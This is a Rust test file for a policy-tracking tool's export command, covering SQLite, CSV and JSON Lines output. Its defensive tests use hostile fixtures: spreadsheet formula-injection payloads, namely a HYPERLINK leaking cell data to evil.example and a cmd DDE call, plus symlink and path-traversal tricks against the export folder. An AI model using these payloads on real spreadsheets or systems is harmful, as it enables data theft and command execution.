//! `export`: the scripted history of `history::scripted` (first, cosmetic, substantive,
//! re-extraction) as SQLite, CSV and JSON Lines, then one more version incrementally.

use std::collections::BTreeMap;
use std::path::Path;

use crate::history::scripted;
use crate::support::{TestArchive, TestServer, policy_page};

const DAY4: &str = "2026-03-04T06:00:00Z";
const DAY5: &str = "2026-03-05T06:00:00Z";
const TABLES: [&str; 4] = ["documents", "versions", "sentence_changes", "provision_occurrences"];

/// A table as rows of column -> value, every value as text ("" for NULL), so the three
/// formats compare directly.
type Table = Vec<BTreeMap<String, String>>;

fn sqlite_table(path: &Path, table: &str) -> Table {
    let db = rusqlite::Connection::open(path).unwrap();
    let order = match table {
        "documents" => "service, document",
        "provision_occurrences" => "id",
        "sentence_changes" => "date, position",
        _ => "date",
    };
    let mut statement = db.prepare(&format!("SELECT * FROM {table} ORDER BY {order}")).unwrap();
    let columns: Vec<String> = statement.column_names().map(|c| c.to_string()).collect();
    statement
        .query_map([], |row| {
            let mut out = BTreeMap::new();
            for (i, column) in columns.iter().enumerate() {
                let value = match row.get_ref(i)? {
                    rusqlite::types::ValueRef::Null => String::new(),
                    rusqlite::types::ValueRef::Integer(n) => n.to_string(),
                    rusqlite::types::ValueRef::Text(t) => String::from_utf8_lossy(t).into_owned(),
                    other => panic!("unexpected value {other:?}"),
                };
                out.insert(column.clone(), value);
            }
            Ok(out)
        })
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

fn csv_table(dir: &Path, table: &str) -> Table {
    let mut reader = csv::Reader::from_path(dir.join(format!("{table}.csv"))).unwrap();
    let headers = reader.headers().unwrap().clone();
    let mut rows: Table = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            headers
                .iter()
                .map(str::to_string)
                .zip(r.iter().map(str::to_string))
                .collect()
        })
        .collect();
    sort(table, &mut rows);
    rows
}

fn jsonl_table(dir: &Path, table: &str) -> Table {
    let text = std::fs::read_to_string(dir.join(format!("{table}.jsonl"))).unwrap();
    let mut rows: Table = text
        .lines()
        .map(|line| {
            let value: serde_json::Map<String, serde_json::Value> = serde_json::from_str(line).unwrap();
            value
                .into_iter()
                .map(|(k, v)| {
                    let v = match v {
                        serde_json::Value::Null => String::new(),
                        serde_json::Value::String(s) => s,
                        other => other.to_string(),
                    };
                    (k, v)
                })
                .collect()
        })
        .collect();
    sort(table, &mut rows);
    rows
}

fn sort(table: &str, rows: &mut Table) {
    let key = |r: &BTreeMap<String, String>| -> (String, i64, String) {
        match table {
            "documents" => (r["service"].clone(), 0, r["document"].clone()),
            "provision_occurrences" => (String::new(), r["id"].parse().unwrap(), String::new()),
            "sentence_changes" => (r["date"].clone(), r["position"].parse().unwrap(), String::new()),
            _ => (r["date"].clone(), 0, String::new()),
        }
    };
    rows.sort_by_key(key);
}

/// Runs an export of every format into `dir` and returns its tables, checking that
/// the three formats hold the same rows.
fn export_all(archive: &TestArchive, now: &str, dir: &Path) -> BTreeMap<&'static str, Table> {
    let sqlite = dir.join("policies.sqlite");
    for (format, out) in [
        ("sqlite", sqlite.clone()),
        ("csv", dir.join("csv")),
        ("jsonl", dir.join("jsonl")),
    ] {
        let (code, stdout, stderr) =
            archive.run_at(now, &["export", "--format", format, "--out", out.to_str().unwrap()]);
        assert_eq!(code, 0, "{format}: {stdout}{stderr}");
    }
    let mut tables = BTreeMap::new();
    for table in TABLES {
        let from_sqlite = sqlite_table(&sqlite, table);
        assert_eq!(
            from_sqlite,
            csv_table(&dir.join("csv"), table),
            "{table}: CSV differs from SQLite"
        );
        assert_eq!(
            from_sqlite,
            jsonl_table(&dir.join("jsonl"), table),
            "{table}: JSON Lines differ from SQLite"
        );
        tables.insert(table, from_sqlite);
    }
    tables
}

#[test]
fn export_writes_the_same_tables_in_every_format_and_adds_only_new_rows() {
    let (server, archive) = scripted();
    let out = tempfile::tempdir().unwrap();
    let tables = export_all(&archive, DAY4, out.path());

    let documents = &tables["documents"];
    assert_eq!(documents.len(), 1);
    assert_eq!(documents[0]["service"], "acme");
    assert_eq!(documents[0]["document"], "privacy-policy");
    assert_eq!(documents[0]["url"], server.url("/privacy"));
    assert_eq!(documents[0]["first_seen"], "2026-03-01T06:00:00Z");
    assert_eq!(documents[0]["last_seen"], "2026-03-04T06:00:00Z");
    assert_eq!(documents[0]["versions"], "4");

    let versions = &tables["versions"];
    let kinds: Vec<&str> = versions.iter().map(|v| v["change"].as_str()).collect();
    assert_eq!(kinds, ["first", "cosmetic", "substantive", "reextract"]);
    let substantive = &versions[2];
    assert_eq!(
        [
            &substantive["added"],
            &substantive["removed"],
            &substantive["changed"],
            &substantive["moved"]
        ],
        ["1", "1", "1", "1"]
    );
    assert_eq!(substantive["declared_date"], "2026-01-01");
    assert_eq!(substantive["source"], "track");
    assert_eq!(substantive["fetcher"], "http");
    assert_eq!(substantive["provisions"], "ai-training");
    assert_eq!(substantive["date"], "2026-03-03T06:00:00Z");
    assert!(substantive["text"].contains("We may use your content to train our AI models.\n"));
    let head = archive.git(&["rev-parse", "HEAD"]);
    assert_eq!(versions[3]["commit_id"], head.trim());
    assert!(
        !versions[3]["text"].contains("Download our app"),
        "the rebuild dropped the promo"
    );

    let changes: Vec<(&str, &str, &str)> = tables["sentence_changes"]
        .iter()
        .filter(|c| c["commit_id"] == substantive["commit_id"])
        .map(|c| {
            (
                c["kind"].as_str(),
                c["old_sentence"].as_str(),
                c["new_sentence"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        changes,
        [
            ("changed", "We keep data for 30 days.", "We keep data for 90 days."),
            ("added", "", "We may use your content to train our AI models."),
            ("removed", "We never sell data.", ""),
            (
                "moved",
                "Alpha partners receive “reports”.",
                "Alpha partners receive “reports”."
            ),
        ]
    );
    let added = tables["sentence_changes"]
        .iter()
        .find(|c| c["kind"] == "added" && c["commit_id"] == substantive["commit_id"])
        .unwrap();
    assert_eq!(added["provisions"], "ai-training");
    let first_changes = tables["sentence_changes"]
        .iter()
        .filter(|c| c["commit_id"] == versions[0]["commit_id"])
        .count();
    assert_eq!(first_changes, 10, "a first record adds every line of its text");

    let occurrences = &tables["provision_occurrences"];
    assert_eq!(occurrences.len(), 1, "{occurrences:?}");
    let ai = &occurrences[0];
    assert_eq!(ai["provision"], "ai-training");
    assert_eq!(ai["stance"], "grants");
    assert_eq!(ai["sentence"], "We may use your content to train our AI models.");
    assert_eq!(ai["first_seen"], "2026-03-03T06:00:00Z");
    assert_eq!(ai["first_commit"], substantive["commit_id"]);
    assert_eq!(ai["last_seen"], "2026-03-04T06:00:00Z");
    assert_eq!(ai["in_force"], "1");

    // Full-text search over the texts: only the versions that say "train".
    let db = rusqlite::Connection::open(out.path().join("policies.sqlite")).unwrap();
    let mut statement = db
        .prepare(
            "SELECT v.change FROM versions_fts JOIN versions v ON v.rowid = versions_fts.rowid \
             WHERE versions_fts MATCH 'train' ORDER BY v.date",
        )
        .unwrap();
    let found: Vec<String> = statement
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(found, ["substantive", "reextract"]);
    let sentences: i64 = db
        .query_row(
            "SELECT count(*) FROM sentence_changes_fts WHERE sentence_changes_fts MATCH 'sell'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(sentences, 2, "'We never sell data.' was added, then removed");
    let indexes: i64 = db
        .query_row(
            "SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name NOT LIKE 'sqlite_%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(indexes >= 6, "{indexes} indexes");
    drop(statement);
    drop(db);

    // Nothing new: the second run adds nothing.
    let (code, stdout, _) = archive.run_at(
        DAY4,
        &["export", "--out", out.path().join("policies.sqlite").to_str().unwrap()],
    );
    assert_eq!(code, 0);
    assert!(stdout.contains("is up to date"), "{stdout}");

    // One more version, which drops the AI-training sentence: only its rows are added,
    // and the occurrence closes at the last version that had it.
    let v5 = "<h1>Privacy Policy</h1><p>Last updated: March 5, 2026</p>\
        <h2>Data</h2><p>We collect your NAME. We keep data for 90 days.</p>\
        <h2>Sharing</h2><p>Beta partners receive nothing. Alpha partners receive “reports”.</p>";
    server.page("/privacy", &policy_page(v5, DAY5));
    let (code, stdout, stderr) = archive.run_at(DAY5, &["track"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    let csv_versions_before = std::fs::read(out.path().join("csv/versions.csv")).unwrap();
    let again = export_all(&archive, DAY5, out.path());
    assert_eq!(again["versions"].len(), 5);
    assert_eq!(
        &again["versions"][..4],
        &tables["versions"][..],
        "old rows are untouched"
    );
    assert_eq!(again["versions"][4]["change"], "substantive");
    assert_eq!(again["versions"][4]["declared_date"], "2026-03-05");
    let csv_versions_after = std::fs::read(out.path().join("csv/versions.csv")).unwrap();
    assert!(
        csv_versions_after.starts_with(&csv_versions_before),
        "CSV rows are appended, not rewritten"
    );
    let new_changes: Vec<&str> = again["sentence_changes"][tables["sentence_changes"].len()..]
        .iter()
        .map(|c| c["kind"].as_str())
        .collect();
    assert_eq!(new_changes, ["changed", "removed"], "{:?}", again["sentence_changes"]);
    assert_eq!(again["documents"][0]["versions"], "5");
    assert_eq!(again["documents"][0]["last_seen"], "2026-03-05T06:00:00Z");
    let ai = &again["provision_occurrences"][0];
    assert_eq!(ai["in_force"], "0");
    assert_eq!(ai["last_seen"], "2026-03-04T06:00:00Z");
    assert_eq!(again["provision_occurrences"].len(), 1);
}

#[test]
fn export_refuses_what_it_cannot_continue() {
    let server = TestServer::start();
    let archive = TestArchive::new();
    archive.declare_simple("acme", "Acme", &[("terms-of-service", &server.url("/terms"))]);
    server.page(
        "/terms",
        &policy_page("<p>You may not train models on our data.</p>", ""),
    );
    assert_eq!(archive.run(&["track"]).0, 0);
    let out = tempfile::tempdir().unwrap();

    // A folder of someone else's files is not overwritten.
    std::fs::write(out.path().join("notes.txt"), "mine").unwrap();
    let (code, _, stderr) = archive.run(&["export", "--format", "csv", "--out", out.path().to_str().unwrap()]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("no export.json"), "{stderr}");

    // A CSV export is not continued as JSON Lines.
    let csv = out.path().join("csv");
    assert_eq!(
        archive
            .run(&["export", "--format", "csv", "--out", csv.to_str().unwrap()])
            .0,
        0
    );
    let (code, _, stderr) = archive.run(&["export", "--format", "jsonl", "--out", csv.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(stderr.contains("holds a csv export; pass --format csv"), "{stderr}");

    // A changed taxonomy would mix two sets of rules.
    let db = out.path().join("a.sqlite");
    assert_eq!(archive.run(&["export", "--out", db.to_str().unwrap()]).0, 0);
    let taxonomy = archive.archive().join("provisions.toml");
    let text = std::fs::read_to_string(&taxonomy)
        .unwrap()
        .replace("window = 20", "window = 12");
    std::fs::write(&taxonomy, text).unwrap();
    let (code, _, stderr) = archive.run(&["export", "--out", db.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(stderr.contains("taxonomy"), "{stderr}");

    // A file that is not an export is left alone.
    let other = out.path().join("other.sqlite");
    std::fs::write(&other, "not a database, just text that is long enough to have a header").unwrap();
    let (code, _, stderr) = archive.run(&["export", "--out", other.to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(stderr.contains("not an SQLite database"), "{stderr}");
}

#[test]
fn an_interrupted_file_export_is_cut_back_before_the_next_run() {
    let (_server, archive) = scripted();
    let out = tempfile::tempdir().unwrap();
    let dir = out.path().join("jsonl");
    assert_eq!(
        archive
            .run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()])
            .0,
        0
    );
    let good = std::fs::read_to_string(dir.join("versions.jsonl")).unwrap();
    // A run that died after appending half a row.
    std::fs::write(dir.join("versions.jsonl"), format!("{good}{{\"commit_id\":\"dead")).unwrap();
    let (code, stdout, stderr) = archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(std::fs::read_to_string(dir.join("versions.jsonl")).unwrap(), good);
}

#[test]
fn an_sqlite_export_writes_datasette_metadata_describing_every_column() {
    let (_server, archive) = scripted();
    let out = tempfile::tempdir().unwrap();
    let db = out.path().join("policies.sqlite");
    let (code, stdout, stderr) = archive.run_at(DAY4, &["export", "--out", db.to_str().unwrap()]);
    assert_eq!(code, 0, "{stdout}{stderr}");

    let metadata: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.path().join("metadata.json")).unwrap()).unwrap();
    let tables = &metadata["databases"]["policies"]["tables"];
    assert_eq!(tables["versions"]["fts_table"], "versions_fts");
    assert_eq!(tables["sentence_changes"]["fts_table"], "sentence_changes_fts");
    assert_eq!(metadata["about"], "clausewatch");

    // Every column of every table in the file has a description, and none is invented.
    let connection = rusqlite::Connection::open(&db).unwrap();
    for table in TABLES {
        let mut statement = connection
            .prepare(&format!("SELECT name FROM pragma_table_info('{table}')"))
            .unwrap();
        let columns: Vec<String> = statement
            .query_map([], |row| row.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        let described: Vec<String> = tables[table]["columns"]
            .as_object()
            .unwrap_or_else(|| panic!("{table} has no column descriptions"))
            .keys()
            .cloned()
            .collect();
        let mut sorted_columns = columns.clone();
        sorted_columns.sort();
        let mut sorted_described = described;
        sorted_described.sort();
        assert_eq!(sorted_columns, sorted_described, "{table}");
    }
    // The full-text index Datasette is pointed at answers a search.
    let hits: i64 = connection
        .query_row(
            "SELECT count(*) FROM versions_fts WHERE versions_fts MATCH 'data'",
            [],
            |row| row.get(0),
        )
        .unwrap();
    assert!(hits > 0);

    // Somebody else's metadata.json is never replaced: the export refuses and says why.
    let other = tempfile::tempdir().unwrap();
    std::fs::write(other.path().join("metadata.json"), r#"{"title": "my notes"}"#).unwrap();
    let db = other.path().join("policies.sqlite");
    let (code, _, stderr) = archive.run_at(DAY4, &["export", "--out", db.to_str().unwrap()]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("was not written by clausewatch"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(other.path().join("metadata.json")).unwrap(),
        r#"{"title": "my notes"}"#
    );
    assert!(!db.exists(), "nothing is exported when the metadata cannot be written");
}

/// One document whose first version states the AI-training provision in a sentence that
/// starts like a spreadsheet formula, as a hostile page can, with list items that do too.
const FORMULA_V1: &str = "<h1>Privacy Policy</h1>\
    <p>=HYPERLINK(\"http://evil.example/?leak=\"&amp;A1,\"Click for details\") We may use your content to train our AI models.</p>\
    <ul><li>+cmd|' /C calc'!A0 we share data with advertising partners.</li><li>@SUM(1+1) we keep your data for 90 days.</li></ul>";
/// Adds a sentence; the formula-like ones stay.
const FORMULA_V2: &str = "<h1>Privacy Policy</h1>\
    <p>=HYPERLINK(\"http://evil.example/?leak=\"&amp;A1,\"Click for details\") We may use your content to train our AI models.</p>\
    <p>We never sell data.</p>\
    <ul><li>+cmd|' /C calc'!A0 we share data with advertising partners.</li><li>@SUM(1+1) we keep your data for 90 days.</li></ul>";

fn one_document(first: &str) -> (TestServer, TestArchive) {
    let server = TestServer::start();
    let archive = TestArchive::new();
    archive.declare_simple("acme", "Acme", &[("privacy-policy", &server.url("/privacy"))]);
    server.page("/privacy", &policy_page(first, DAY4));
    let (code, stdout, stderr) = archive.run_at(DAY4, &["track"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    (server, archive)
}

/// Every cell of a CSV file as it is stored, by column name.
fn raw_csv_cells(path: &Path) -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let mut cells = Vec::new();
    for record in reader.records() {
        for (column, cell) in headers.iter().zip(record.unwrap().iter()) {
            cells.push((column.to_string(), cell.to_string()));
        }
    }
    cells
}

#[test]
fn csv_cells_that_start_like_a_formula_get_an_apostrophe_and_read_back_exactly() {
    let (server, archive) = one_document(FORMULA_V1);
    let out = tempfile::tempdir().unwrap();
    let csv = out.path().join("csv");
    let jsonl = out.path().join("jsonl");
    for (format, dir) in [("csv", &csv), ("jsonl", &jsonl)] {
        let (code, stdout, stderr) =
            archive.run_at(DAY4, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
        assert_eq!(code, 0, "{format}: {stdout}{stderr}");
    }
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\") \
        We may use your content to train our AI models.";

    // No stored cell of any table starts a formula.
    for table in TABLES {
        for (column, cell) in raw_csv_cells(&csv.join(format!("{table}.csv"))) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{table}.{column} starts a formula: {cell:?}"
            );
        }
    }
    let occurrences = raw_csv_cells(&csv.join("provision_occurrences.csv"));
    assert!(
        occurrences.contains(&("sentence".to_string(), format!("'{hyperlink}"))),
        "{occurrences:?}"
    );
    let changes = raw_csv_cells(&csv.join("sentence_changes.csv"));
    let new_sentences: Vec<&str> = changes
        .iter()
        .filter(|(column, _)| column == "new_sentence")
        .map(|(_, cell)| cell.as_str())
        .collect();
    assert!(
        new_sentences.contains(&format!("'{hyperlink}").as_str()),
        "{new_sentences:?}"
    );
    assert!(
        new_sentences.contains(&"'- +cmd|' /C calc'!A0 we share data with advertising partners."),
        "{new_sentences:?}"
    );
    // JSON Lines keeps the exact text.
    let jsonl_occurrences = jsonl_table(&jsonl, "provision_occurrences");
    assert!(
        jsonl_occurrences.iter().any(|o| o["sentence"] == hyperlink),
        "{jsonl_occurrences:?}"
    );

    // An incremental run reads the quoted cells back as the text they hold: the
    // occurrence goes on (not closed and opened again), and the tables are the bytes a
    // fresh export of the same history writes.
    server.page("/privacy", &policy_page(FORMULA_V2, DAY5));
    let (code, stdout, stderr) = archive.run_at(DAY5, &["track"]);
    assert_eq!(code, 0, "{stdout}{stderr}");
    let versions_before = std::fs::read(csv.join("versions.csv")).unwrap();
    let fresh = out.path().join("fresh");
    for dir in [&csv, &fresh] {
        let (code, stdout, stderr) =
            archive.run_at(DAY5, &["export", "--format", "csv", "--out", dir.to_str().unwrap()]);
        assert_eq!(code, 0, "{stdout}{stderr}");
    }
    assert!(
        std::fs::read(csv.join("versions.csv"))
            .unwrap()
            .starts_with(&versions_before),
        "rows are appended"
    );
    for table in TABLES {
        let file = format!("{table}.csv");
        assert_eq!(
            std::fs::read_to_string(csv.join(&file)).unwrap(),
            std::fs::read_to_string(fresh.join(&file)).unwrap(),
            "{file}: an incremental export differs from a fresh one"
        );
    }
    let occurrences = csv_table(&csv, "provision_occurrences");
    let ai: Vec<_> = occurrences.iter().filter(|o| o["provision"] == "ai-training").collect();
    assert_eq!(ai.len(), 1, "{occurrences:?}");
    assert_eq!(ai[0]["sentence"], format!("'{hyperlink}"));
    assert_eq!(ai[0]["first_seen"], DAY4);
    assert_eq!(ai[0]["last_seen"], DAY5);
    assert_eq!(ai[0]["in_force"], "1");
}

/// A file outside every export folder, to be pointed at.
fn victim(dir: &Path, name: &str) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, "keep me\n").unwrap();
    path
}

#[test]
fn a_link_at_an_export_temporary_name_is_never_written_through() {
    let (server, archive) = one_document(FORMULA_V1);
    let out = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    for format in ["csv", "jsonl"] {
        let dir = out.path().join(format);
        let (code, stdout, stderr) =
            archive.run_at(DAY4, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
        assert_eq!(code, 0, "{stdout}{stderr}");
        // The temporary names a run writes the rewritten tables and the state to.
        for file in ["documents", "provision_occurrences"]
            .map(|t| format!("{t}.{format}"))
            .into_iter()
            .chain(["export.json".to_string()])
        {
            for temp in [format!(".{file}.clausewatch-tmp"), format!(".{file}.tmp")] {
                let target = victim(outside.path(), &format!("{format}-{temp}"));
                std::os::unix::fs::symlink(&target, dir.join(&temp)).unwrap();
            }
        }
    }
    server.page("/privacy", &policy_page(FORMULA_V2, DAY5));
    assert_eq!(archive.run_at(DAY5, &["track"]).0, 0);
    for format in ["csv", "jsonl"] {
        let dir = out.path().join(format);
        let (code, stdout, stderr) =
            archive.run_at(DAY5, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
        assert_eq!(code, 0, "{format}: {stdout}{stderr}");
        assert!(stdout.contains("1 version"), "{stdout}");
        for file in ["documents", "provision_occurrences"].map(|t| format!("{t}.{format}")) {
            let meta = std::fs::symlink_metadata(dir.join(&file)).unwrap();
            assert!(meta.is_file(), "{file} is a regular file");
        }
        assert!(
            std::fs::read_to_string(dir.join("export.json"))
                .unwrap()
                .contains("\"lengths\"")
        );
    }
    for entry in std::fs::read_dir(outside.path()).unwrap() {
        let path = entry.unwrap().path();
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            "keep me\n",
            "{}",
            path.display()
        );
    }
}

#[test]
fn a_link_at_a_table_or_the_state_of_an_export_refuses_the_run_naming_it() {
    let (server, archive) = one_document(FORMULA_V1);
    let out = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    server.page("/privacy", &policy_page(FORMULA_V2, DAY5));
    let mut tracked = false;
    for format in ["csv", "jsonl"] {
        for table in [
            "versions",
            "sentence_changes",
            "documents",
            "provision_occurrences",
            "export",
        ] {
            let file = if table == "export" {
                "export.json".to_string()
            } else {
                format!("{table}.{format}")
            };
            let dir = out.path().join(format!("{format}-{table}"));
            let (code, stdout, stderr) =
                archive.run_at(DAY4, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
            assert_eq!(code, 0, "{stdout}{stderr}");
            // The link points at a copy of the file it replaces, with the length the
            // state records, as a hostile folder would be made to pass every check.
            let target = outside.path().join(format!("{format}-{file}"));
            std::fs::rename(dir.join(&file), &target).unwrap();
            std::os::unix::fs::symlink(&target, dir.join(&file)).unwrap();
            let before = std::fs::read(&target).unwrap();
            if !tracked {
                assert_eq!(archive.run_at(DAY5, &["track"]).0, 0);
                tracked = true;
            }

            let (code, stdout, stderr) =
                archive.run_at(DAY5, &["export", "--format", format, "--out", dir.to_str().unwrap()]);
            assert_eq!(code, 3, "{file}: {stdout}{stderr}");
            assert!(
                stderr.contains(&format!("{} is a symbolic link", dir.join(&file).display())),
                "{stderr}"
            );
            assert_eq!(
                std::fs::read(&target).unwrap(),
                before,
                "{file}: the file outside is unchanged"
            );
            assert!(dir.join(&file).is_symlink(), "{file}: the link is left alone");
        }
    }
}

#[test]
fn export_json_naming_a_file_outside_the_folder_is_refused_before_anything_is_written() {
    let (_server, archive) = one_document(FORMULA_V1);
    let out = tempfile::tempdir().unwrap();
    let absolute = victim(out.path(), "absolute.txt");
    let relative = victim(out.path(), "relative.txt");
    for entry in [absolute.to_str().unwrap(), "../relative.txt", "versions.csv"] {
        let dir = out.path().join("exp");
        std::fs::create_dir_all(&dir).unwrap();
        let state = serde_json::json!({
            "format": "jsonl", "schema": 1,
            "last_commit": "0000000000000000000000000000000000000000",
            "exported_at": "2026-03-02T00:00:00Z", "taxonomy": "x", "clausewatch_version": "0.1.0",
            "lengths": { entry: 0 },
        });
        std::fs::write(dir.join("export.json"), state.to_string()).unwrap();
        let (code, stdout, stderr) =
            archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
        assert_eq!(code, 2, "{entry}: {stdout}{stderr}");
        assert!(
            stderr.contains(&format!(
                "{} lists {entry:?} in \"lengths\", which is not a table of this export",
                dir.join("export.json").display()
            )),
            "{stderr}"
        );
        for file in [&absolute, &relative] {
            assert_eq!(std::fs::read_to_string(file).unwrap(), "keep me\n", "{entry}");
        }
    }

    // A table's own name, in an export that cannot be continued, cuts nothing either:
    // the state is checked before any write.
    let dir = out.path().join("jsonl");
    let (code, _, stderr) = archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    let versions = std::fs::read(dir.join("versions.jsonl")).unwrap();
    let state = std::fs::read_to_string(dir.join("export.json")).unwrap();
    let mut state: serde_json::Value = serde_json::from_str(&state).unwrap();
    state["taxonomy"] = "another tagger".into();
    state["lengths"]["versions.jsonl"] = 0.into();
    std::fs::write(dir.join("export.json"), state.to_string()).unwrap();
    let (code, _, stderr) = archive.run_at(DAY4, &["export", "--format", "jsonl", "--out", dir.to_str().unwrap()]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("taxonomy"), "{stderr}");
    assert_eq!(std::fs::read(dir.join("versions.jsonl")).unwrap(), versions);
}
